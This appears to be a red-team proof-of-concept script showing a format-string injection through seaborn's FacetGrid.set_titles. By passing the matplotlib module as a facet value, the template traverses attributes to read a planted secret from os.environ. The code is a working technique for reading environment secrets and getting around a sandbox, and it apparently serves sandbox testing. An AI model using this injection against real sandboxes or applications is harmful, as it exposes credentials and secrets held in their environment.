# (c) seaborn FacetGrid.set_titles(template) runs template.format(col_name=<facet value>) unguarded; facet value is the matplotlib module; driver sees result == ["planted-secret"]
# red team 2026-12-07, docs/redteam-2026-12-07/success_25_seaborn_facet_titles_env.py.txt
import matplotlib

matplotlib.use("Agg")
matplotlib.rcParams["axes.unicode_minus"] = False
import pandas as pd
import seaborn as sns

df = pd.DataFrame({"v": [1.0], "c": [matplotlib]})
g = sns.FacetGrid(df, col="c")
g.set_titles("{col_name.os.environ[SANDBOX_TEST_SECRET]}")
result = [ax.get_title() for ax in g.axes.flat]
print(result)
